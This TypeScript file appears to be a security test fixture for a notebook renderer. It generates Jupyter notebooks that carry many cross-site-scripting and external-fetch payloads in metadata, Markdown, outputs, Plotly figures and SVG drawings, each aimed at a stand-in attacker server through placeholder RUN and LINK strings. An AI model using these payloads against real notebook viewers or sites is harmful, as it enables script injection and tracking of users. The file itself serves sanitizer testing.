/**
 * Notebooks that try to run a script or to fetch something where they are opened: each attack in one
 * field of a notebook. The word RUN stands for a call that tells that a script ran, LINK for an
 * address on the attacker's server; which of them got through is told by the attack's own number.
 */
const figureType = "application/vnd.plotly.v1+json";
const drawingType = "application/vnd.sinapse.svg+json";

type Json = Record<string, unknown>;

/** One attack. */
export interface Attack {
  name: string;
  /** Replaces the notebook's metadata. */
  metadata?: Json;
  /** The file's name, without its ending. */
  file?: string;
  cells: Json[];
  /** Drawn by our renderer in JupyterLab, too: there even a picture from elsewhere is ours. */
  ours: boolean;
}

const image = "<img src=x onerror='RUN'>";
const breakout = `"><img src=x onerror='RUN'>`;
const handler = `" onmouseover="RUN" onfocus="RUN" tabindex="0" autofocus x="`;
const script = "<script>RUN</script>";

const kernelspec = { name: "sinapse", display_name: "TypeScript", language: "typescript" };
const usual = { kernelspec, language_info: { name: "typescript" } };

const markdown = (source: string, more: Json = {}): Json => ({
  cell_type: "markdown",
  metadata: {},
  source,
  ...more,
});
const code = (outputs: Json[], more: Json = {}): Json => ({
  cell_type: "code",
  metadata: {},
  execution_count: 1,
  source: "1 + 1",
  outputs,
  ...more,
});
const raw = (source: string, metadata: Json): Json => ({ cell_type: "raw", metadata, source });
const shows = (data: Json, more: Json = {}): Json =>
  code([{ output_type: "display_data", data, metadata: {}, ...more }]);
const figure = (content: Json): Json => shows({ [figureType]: content, "text/plain": "a figure" });
const drawing = (content: Json): Json => shows({ [drawingType]: content, "text/plain": "drawn" });
const svg = (inner: string): Json =>
  drawing({
    svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">${inner}</svg>`,
  });
const rect = (attributes: string) => svg(`<rect width="50" height="50" ${attributes}/>`);
const png =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

const points = { type: "scatter", mode: "markers", x: [1, 2], y: [1, 2] };
const plotted = (layout: Json, trace: Json = {}, more: Json = {}): Json =>
  figure({ data: [{ ...points, ...trace }], layout, ...more });
const picture = { source: "LINK", x: 0, y: 1, sizex: 1, sizey: 1, xref: "paper", yref: "paper" };
const said = (text: string) => plotted({ title: { text } });

const inMetadata: Record<string, Json> = {
  "metadata.language": { ...usual, language: breakout },
  "metadata.language with a handler": { ...usual, language: handler },
  "metadata.language, a list": { ...usual, language: [breakout] },
  "metadata.language, an object": { ...usual, language: { a: breakout } },
  "metadata.title": { ...usual, title: `</title>${script}${image}` },
  "metadata.title, a list": { ...usual, title: [`</title>${script}`] },
  "metadata.title, an object": { ...usual, title: { a: `</title>${image}` } },
  "kernelspec.name": { ...usual, kernelspec: { ...kernelspec, name: breakout } },
  "kernelspec.display_name": { ...usual, kernelspec: { ...kernelspec, display_name: breakout } },
  "kernelspec.language": { ...usual, kernelspec: { ...kernelspec, language: breakout } },
  "language_info.name": { kernelspec, language_info: { name: breakout } },
  "language_info.pygments_lexer": {
    kernelspec,
    language_info: { name: "typescript", pygments_lexer: breakout },
  },
  "language_info.mimetype": {
    kernelspec,
    language_info: { name: "typescript", mimetype: breakout, file_extension: breakout },
  },
  "metadata.authors": { ...usual, authors: [{ name: breakout }] },
};

const inMarkdown: Record<string, string> = {
  "a script": script,
  "a picture's handler": image,
  "an SVG's handler": "<svg onload='RUN'></svg>",
  "a link to a script": '<a href="javascript:RUN">a</a>',
  "a link to a script, in capitals and spaces": '<a href=" jAvA\tscript:RUN">a</a>',
  "a link to a script, in Markdown": "[a](javascript:RUN)",
  "a link to a script that ends like a notebook": "<a href=' javascript:RUN//.ipynb'>a</a>",
  "a link to a page of its own": "<a href='data:text/html,<script>RUN</script>'>a</a>",
  "a frame with a page": `<iframe srcdoc="<script>parent.RUN</script>"></iframe>`,
  "a frame with a script": '<iframe src="javascript:parent.RUN"></iframe>',
  "a frame from elsewhere": "<iframe src='LINK'></iframe>",
  "an object": "<object data='LINK'></object><embed src='LINK'>",
  "a form": "<form action='javascript:RUN'><button autofocus onfocus='RUN'>a</button></form>",
  "a page that moves away": "<meta http-equiv='refresh' content='0;url=LINK'>",
  "a style sheet": "<link rel='stylesheet' href='LINK'><link rel='prefetch' href='LINK'>",
  "another base": "<base href='LINK/'><img src='picture.png'>",
  "a style that imports": "<style>@import 'LINK';</style>",
  "a style with a picture": "<style>body { background: url(LINK) }</style>",
  "a style sheet in SVG": "<svg><style>* { background: url(LINK) }</style></svg>",
  "a background": "<div style='background: url(LINK)'>a</div>",
  "a background with an escape": "<div style='background: u\\72l(LINK)'>a</div>",
  "a background as a set": "<div style='background: image-set(\"LINK\" 1x)'>a</div>",
  "a picture": "![a](LINK)",
  "a picture's set": "<img src='data:,' srcset='LINK 1x'>",
  "a picture's sources": "<picture><source srcset='LINK'><img src='data:,'></picture>",
  "a film": "<video poster='LINK' src='LINK' autoplay></video>",
  "a sound": "<audio src='LINK' autoplay></audio>",
  "a button with a picture": "<input type='image' src='LINK'>",
  "a table's background": "<table background='LINK'><tr><td background='LINK'>a</table>",
  "a fold that opens": "<details open ontoggle='RUN'><summary>a</summary></details>",
  "MathML that becomes HTML":
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
  "text for browsers without scripts": `<noscript><p title="</noscript>${image.replaceAll('"', "")}">`,
  "an attribute that ends the page's own noscript": `<a title="</noscript>${image}">a</a>`,
  "an SVG that uses another":
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=RUN /></svg>#x'/></svg>",
  "an SVG's picture": "<svg><image href='LINK' xlink:href='LINK' width='9' height='9'/></svg>",
  "an SVG's fill":
    "<svg><rect fill='url(LINK#a)' filter='url(LINK#a)' width='9' height='9'/></svg>",
  "an animation's handler": "<svg><animate onbegin='RUN' attributeName='x' dur='1s'/></svg>",
  "an animated link":
    "<svg><a><set attributeName='href' to='javascript:RUN'/><text y='9'>a</text></a></svg>",
  "a marquee": "<marquee onstart='RUN'>a</marquee>",
  "a body": "<body onload='RUN' onpageshow='RUN'>",
  "a code block's language": `\`\`\`"><img src=x onerror=RUN>\n1\n\`\`\``,
  "a heading": `# <img src=x onerror='RUN'> </title>${script}`,
  "a script's end": `</script>${script}</noscript>${image}`,
  "a script's second beginning": `<!--<script>${script}-->`,
  "a link's title": `[a](b "x&quot; onmouseover=&quot;RUN")`,
  "a picture's text": `![x" onerror="RUN](b)`,
  "what the page's own script looks for": `<div class="written"><script type="application/json">"${"<img src=x onerror=RUN>"}"</script></div>`,
  "what the page's own script draws": `<div data-mime="${drawingType}" data-text='${image}'></div>`,
  "a name that hides the page's own":
    "<img name='body'><form id='documentElement'><input name='dataset'>",
  "a formula with a link": "$\\href{javascript:RUN}{x}$",
  "a formula with a picture": "$\\includegraphics{LINK}$",
  "a formula with a style":
    "$\\style{background: url(LINK)}{x}$ $\\htmlStyle{background:url(LINK)}{x}$",
  "a formula with a colour": "$\\color{url(LINK)} x$ $\\colorbox{url(LINK)}{x}$",
  "a formula with text": `$\\text{${image}}$ $\\unicode{<img src=x onerror=RUN>}$`,
  "a formula with data": `$\\htmlData{x="><img src=x onerror=RUN>}{y}$ $\\class{"><img src=x onerror=RUN>}{y}$`,
  "a formula that is wrong": `$$\\frac{${image}$$`,
};

const inCells: Record<string, Json[]> = {
  "a Markdown cell's id": [markdown("a", { id: breakout })],
  "a code cell's id": [code([], { id: handler })],
  "a code cell's source": [code([], { source: `</pre></div>${script}${image}` })],
  "a code cell's tags": [code([], { metadata: { tags: [breakout], magics_language: breakout } })],
  "a raw cell": [raw(script + image, {})],
  "a raw cell of HTML": [raw(script + image, { raw_mimetype: "text/html" })],
  "a raw cell with a link": [raw("<a href=' javascript:RUN'>a</a><b onmouseover='RUN'>b</b>", {})],
  "a raw cell's type": [raw(image, { raw_mimetype: [breakout] })],
  "an attachment": [
    markdown("![a](attachment:a.png)", { attachments: { "a.png": { "image/png": breakout } } }),
  ],
  "an attachment's type": [
    markdown("![a](attachment:a.png)", {
      attachments: { "a.png": { [`image/png${breakout}`]: "x" } },
    }),
  ],
  "an attachment's name": [
    markdown(`![a](attachment:a${handler.replaceAll(" ", "/")}.png)`, {
      attachments: { [`a${handler.replaceAll(" ", "/")}.png`]: { "image/png": png } },
    }),
  ],
  "an execution count": [code([], { execution_count: breakout })],
};

const inOutputs: Record<string, Json> = {
  "HTML with a script": shows({ "text/html": script }),
  "HTML with a handler": shows({ "text/html": image }),
  "HTML with a picture": shows({ "text/html": "<img src='LINK'>" }),
  "HTML with a style": shows({ "text/html": "<p style='background:url(LINK)'>a</p>" }),
  "HTML as a list": shows({ "text/html": ["<img src=x ", "onerror='RUN'>"] }),
  Markdown: shows({ "text/markdown": `${script}${image} [a](javascript:RUN)` }),
  LaTeX: shows({ "text/latex": `</div>${script}${image}` }),
  "LaTeX with a link": shows({ "text/latex": "$\\href{javascript:RUN}{x}$" }),
  "an SVG with a script": shows({
    "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="RUN">${script}</svg>`,
  }),
  "an SVG with a picture": shows({
    "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg"><image href="LINK" width="9" height="9"/><rect fill="url(LINK#a)" width="9" height="9"/></svg>`,
  }),
  "a PNG": shows({ "image/png": breakout }),
  "a PNG as a list": shows({ "image/png": [png, breakout] }),
  "a PNG with a handler": shows({ "image/png": `${png}" onload="RUN` }),
  "a JPEG": shows({ "image/jpeg": breakout }),
  "a PNG's text": shows({ "image/png": png, "text/plain": breakout }),
  "a PNG's size": shows(
    { "image/png": png },
    {
      metadata: { "image/png": { width: breakout, height: breakout }, needs_background: breakout },
    },
  ),
  JavaScript: shows({ "application/javascript": "RUN" }),
  "JavaScript under another name": shows({
    "text/javascript": "RUN",
    "application/ecmascript": "RUN",
  }),
  "plain text": shows({ "text/plain": `</pre>${script}${image}` }),
  JSON: shows({ "application/json": { a: image }, "text/plain": image }),
  PDF: shows({ "application/pdf": breakout, "text/plain": image }),
  "a diagram": shows({ "text/vnd.mermaid": `graph TD; A["${image}"]`, "text/plain": image }),
  "a type's name": shows({ [`image/png${breakout}`]: png, "text/plain": "a" }),
  "a type that nobody knows": shows({ "text/x-attack": image }),
  "a stream's name": code([{ output_type: "stream", name: breakout, text: "a" }]),
  "a stream's name with a handler": code([{ output_type: "stream", name: handler, text: "a" }]),
  "a stream": code([{ output_type: "stream", name: "stdout", text: `</pre>${script}${image}` }]),
  "a stream with colours": code([
    {
      output_type: "stream",
      name: "stdout",
      text: `\u001b[31m${image}\u001b[38;2;1;2;3m<\u001b[0mimg src=x onerror=RUN>`,
    },
  ]),
  "a stream with half a colour": code([
    {
      output_type: "stream",
      name: "stderr",
      text: `\u001b[<img src=x onerror=RUN>\u001b[1;"onclick=RUN;m`,
    },
  ]),
  "a stream with a link": code([
    {
      output_type: "stream",
      name: "stdout",
      text: "\u001b]8;;javascript:RUN\u0007a\u001b]8;;\u0007 javascript:RUN",
    },
  ]),
  "an error": code([
    { output_type: "error", ename: image, evalue: script, traceback: [`</pre>${image}`, script] },
  ]),
  "an error with colours": code([
    { output_type: "error", ename: "a", evalue: "b", traceback: [`\u001b[0;31m${image}\u001b[0m`] },
  ]),
  "a result's count": code([
    {
      output_type: "execute_result",
      data: { "text/plain": "1" },
      metadata: {},
      execution_count: breakout,
    },
  ]),
};

const inFigures: Record<string, Json> = {
  "a title that ends the script": said(`</script>${script}${image}`),
  "a title that begins a script": said(`<!--<script>${image}`),
  "what it shows": shows({ [figureType]: { data: [points], layout: {} }, "text/plain": breakout }),
  "a picture": plotted({ images: [picture] }),
  "a picture on the page's server": plotted({ images: [{ ...picture, source: "//LINKHOST" }] }),
  "a picture of a template": plotted({
    images: [{ ...picture, source: undefined }],
    template: { layout: { imagedefaults: picture } },
  }),
  "a picture of a template's list": plotted({
    images: [{ templateitemname: "a", visible: true }],
    template: { layout: { images: [{ ...picture, name: "a" }] } },
  }),
  "a picture of a frame": plotted(
    {},
    {},
    { frames: [{ name: "a", data: [{}], layout: { images: [picture] } }] },
  ),
  "a picture of a frame, by its path": plotted(
    { images: [{ ...picture, source: `data:image/png;base64,${png}` }] },
    {},
    { frames: [{ name: "a", data: [{}], layout: { "images[0].source": "LINK" } }] },
  ),
  "a picture of a button": plotted({
    updatemenus: [
      {
        type: "buttons",
        buttons: [{ label: "a", method: "relayout", args: [{ images: [picture] }] }],
      },
    ],
  }),
  "a picture of a button, by its path": plotted({
    images: [{ ...picture, source: `data:image/png;base64,${png}` }],
    updatemenus: [
      {
        type: "buttons",
        buttons: [{ label: "a", method: "relayout", args: ["images[0].source", "LINK"] }],
      },
    ],
  }),
  "a picture of a slider": plotted({
    sliders: [
      {
        steps: ["a", "b"].map((label) => ({
          label,
          method: "relayout",
          args: [{ "images[0]": picture }],
        })),
      },
    ],
  }),
  "a title with a script's link": said("<a href='javascript:RUN'>a</a>"),
  "a title with a window": said("<a href='LINK' popup='width=1' onmouseover='RUN'>a</a>"),
  "a title with HTML": said(image),
  "a title with a fill": said("<span style='fill: url(LINK#a)'>a</span>"),
  "a title with a filter": said("<span style='filter: url(LINK#a); mask: url(LINK#a)'>a</span>"),
  "a title with a pointer": said("<b style='cursor: url(LINK), auto; background: url(LINK)'>a</b>"),
  "a title with a list's mark": said(
    "<b style='display: list-item; list-style-image: url(LINK)'>a</b>",
  ),
  "a title with an escape": said(
    "<b style='list-style-image: u\\72l(LINK); cursor: u\\72l(LINK), auto'>a</b>",
  ),
  "a title with an entity": said(
    "<b style='cursor: ur&#108;(LINK), auto; background: ur&#x6c;(LINK)'>a</b>",
  ),
  "a title from two parts": plotted({
    meta: ["<b style='cursor: u", "rl(LINK), auto; list-style-image: url(LINK)'>a</b>"],
    title: { text: "%{meta[0]}%{meta[1]}" },
  }),
  "labels from two parts": plotted(
    { meta: ["<", "b style='cursor: url(LINK), auto; list-style-image: url(LINK)'>a"] },
    { mode: "text", texttemplate: "%{meta[0]}%{meta[1]}", text: ["a", "b"] },
  ),
  "a hover text": plotted(
    {},
    { hovertemplate: "<b style='cursor:url(LINK),auto'>a<extra>b</extra>" },
  ),
  "a note": plotted({
    annotations: [
      {
        x: 1,
        y: 1,
        text: "<i style='list-style-image:url(LINK);cursor:url(LINK),auto'>a</i>",
        hovertext: image,
      },
    ],
  }),
  "an axis": plotted({
    xaxis: {
      title: { text: image },
      tickprefix: "<b style='cursor:url(LINK),auto'>",
      ticktext: [image],
      tickvals: [1],
    },
  }),
  "a trace's name": plotted(
    { showlegend: true },
    { name: `${image}<b style='cursor:url(LINK),auto'>a</b>` },
  ),
  "categories and labels": plotted(
    {},
    { type: "bar", x: [image, "b"], text: [image, script], ids: [breakout] },
  ),
  "a font": plotted({
    font: { family: "url(LINK), x; background: url(LINK)", color: "url(LINK)" },
  }),
  colours: plotted(
    { paper_bgcolor: "url(LINK)", plot_bgcolor: "u\\72l(LINK)" },
    { marker: { color: "url(LINK)", symbol: "url(LINK)", line: { color: "url(LINK)" } } },
  ),
  "a line's dashes": plotted(
    {},
    { mode: "lines", line: { dash: "url(LINK)", shape: "url(LINK)" } },
  ),
  "a shape": plotted({
    shapes: [{ type: "path", path: breakout, fillcolor: "url(LINK)", label: { text: image } }],
  }),
  "an identifier": plotted(
    {},
    {
      uid: "a') url('LINK",
      fill: "tozeroy",
      fillgradient: {
        type: "vertical",
        colorscale: [
          [0, "red"],
          [1, "blue"],
        ],
      },
    },
  ),
  "a map": figure({
    data: [{ type: "choropleth", geojson: "LINK", locations: ["a"], z: [1] }],
    layout: {},
  }),
  "a map's tiles": figure({
    data: [{ type: "scattermapbox", lat: [1], lon: [1] }],
    layout: { mapbox: { style: "LINK", accesstoken: "x" }, map: { style: "LINK" }, geo: {} },
  }),
  "a trace that is a picture": figure({ data: [{ type: "image", source: "LINK" }], layout: {} }),
  "a frame's trace that is a picture": plotted(
    {},
    {},
    { frames: [{ name: "a", data: [{ type: "image", source: "LINK" }] }] },
  ),
  "a place of its own for maps": figure({
    data: [points],
    layout: {},
    config: { topojsonURL: "LINK", plotlyServerURL: "LINK", mapboxAccessToken: "x" },
  }),
  "three dimensions": figure({
    data: [{ type: "scatter3d", mode: "text", x: [1], y: [1], z: [1], text: [image] }],
    layout: {
      scene: {
        annotations: [{ text: "<b style='cursor:url(LINK),auto'>a</b>" }],
        xaxis: { title: { text: image } },
      },
    },
  }),
  "no list of traces": figure({ data: breakout, layout: [breakout], frames: image }),
};

const inDrawings: Record<string, Json> = {
  "a script": svg(script),
  "a handler": svg(
    "<g onclick='RUN' onload='RUN' onmouseover='RUN'><rect width='50' height='50'/></g>",
  ),
  "a link": svg("<a href='javascript:RUN' xlink:href='javascript:RUN'><text y='20'>a</text></a>"),
  "a picture": svg("<image href='LINK' xlink:href='LINK' width='50' height='50'/>"),
  "HTML inside": svg(
    `<foreignObject width='50' height='50'>${image}<iframe src='LINK'></iframe></foreignObject>`,
  ),
  "HTML in a title": svg(`<title>${image}</title><desc>${image}</desc>`),
  "a style sheet": svg(
    "<style>@import url(LINK); rect { fill: url(LINK#a) }</style><rect width='50' height='50'/>",
  ),
  "HTML in a style": svg(
    `<style><img src=x onerror=RUN></style><style><![CDATA[</style>${image}]]></style>`,
  ),
  "a style": rect("style='background: url(LINK); filter: url(LINK#a); cursor: url(LINK), auto'"),
  "a fill": rect("fill='url(LINK#a)'"),
  "a fill with an escape": rect(
    "fill='u\\72l(LINK#a)' filter='u\\72l(LINK#a)' mask='u\\72l(LINK#a)'",
  ),
  "a fill with a comment": rect("fill='url/**/(LINK#a)' filter='/**/url(LINK#a)'"),
  "a fill with an entity": rect("filter='ur&#108;(LINK#a)'"),
  "a fill in quotes": rect(`filter='url("LINK#a")' stroke="url('LINK#a')"`),
  "a filter": rect("filter='url(LINK#a)'"),
  "a filter after one of its own": rect("filter='url(#b) url(LINK#a)'"),
  "a mask": rect("mask='url(LINK#a)'"),
  "a clip": rect("clip-path='url(LINK#a)'"),
  "a pointer": rect("cursor='url(LINK), auto'"),
  "a pointer with an escape": rect("cursor='\\75 rl(LINK), auto'"),
  "a mark": svg("<path d='M0 0L9 9' marker-start='url(LINK#a)' marker-end='u\\72l(LINK#a)'/>"),
  "a use": svg("<use href='LINK#a' xlink:href='LINK#a'/>"),
  "a picture in a filter": svg(
    "<filter id='f'><feImage href='LINK' xlink:href='LINK'/></filter><rect filter='url(#f)' width='50' height='50'/>",
  ),
  "a gradient from elsewhere": svg(
    "<linearGradient id='g' href='LINK#a' xlink:href='LINK#a'/><rect fill='url(#g)' width='50' height='50'/>",
  ),
  "an animation": svg(
    "<rect width='50' height='50'><animate attributeName='filter' values='url(LINK#a)' dur='1s' onbegin='RUN'/><set attributeName='mask' to='url(LINK#a)'/></rect>",
  ),
  "a set of pictures": rect("mask='image-set(\"LINK\" 1x)' cursor='image-set(\"LINK\" 1x), auto'"),
  "another source": rect("mask='src(\"LINK\")' fill='image(\"LINK\")'"),
  "a title": drawing({ svg: "<svg></svg>", title: image, description: breakout }),
  steps: drawing({ svg: "<svg><g data-from='0'/></svg>", steps: [image, script] }),
  frames: drawing({
    svg: "<svg></svg>",
    steps: ["a", "b"],
    frames: [
      `<svg onload='RUN'>${script}</svg>`,
      "<svg><image href='LINK' width='9' height='9'/><rect cursor='url(LINK),auto' mask='url(LINK#a)' width='9' height='9'/></svg>",
    ],
  }),
  "no SVG": drawing({ svg: { a: image }, title: [image], steps: image, frames: 1 }),
  "HTML in its place": drawing({ svg: `${image}${script}<iframe src='LINK'></iframe>` }),
  "the script's end": drawing({
    svg: `</script>${script}<!--<script>`,
    title: `</script>${image}`,
  }),
};

const files = [
  "<img src=x onerror=RUN>",
  "</title>-<script>RUN<".replaceAll("/", ""),
  `a" onmouseover="RUN" x="`,
  "a'); RUN; ('",
];

function of(kind: string, list: Record<string, Json>, ours = false): Attack[] {
  return Object.entries(list).map(([name, cell]) => {
    return { name: `${kind}: ${name}`, cells: [cell], ours };
  });
}

/** All of them. */
export const attacks: readonly Attack[] = [
  ...Object.entries(inMetadata).map(([name, metadata]) => {
    return { name, metadata, cells: [code([])], ours: false };
  }),
  ...files.map((file) => ({
    name: `a file's name: ${file}`,
    file,
    cells: [code([])],
    ours: false,
  })),
  ...Object.entries(inMarkdown).map(([name, source]) => {
    return { name: `Markdown: ${name}`, cells: [markdown(source)], ours: false };
  }),
  ...Object.entries(inCells).map(([name, cells]) => ({ name, cells, ours: false })),
  ...of("an output", inOutputs),
  ...of("a figure", inFigures, true),
  ...of("a drawing", inDrawings, true),
];

/** The notebook of an attack, aimed at a server. */
export function notebookOf(attack: Attack, number: number, server: string): Json {
  const cells = attack.cells.map((cell, index) => ({ id: `attack-${number}-${index}`, ...cell }));
  const notebook = { nbformat: 4, nbformat_minor: 5, metadata: attack.metadata ?? usual, cells };
  return aimed(notebook, number, server) as Json;
}

/** The same with every RUN and LINK filled in. */
export function aimed(value: unknown, number: number, server: string): unknown {
  if (typeof value === "string") {
    return value
      .replaceAll("RUN", `ran(${number})`)
      .replaceAll("LINKHOST", `${new URL(server).host}/${number}`)
      .replaceAll("LINK", `${server}/${number}`);
  }
  if (Array.isArray(value)) return value.map((item) => aimed(item, number, server));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [
      aimed(key, number, server),
      aimed(item, number, server),
    ]),
  );
}
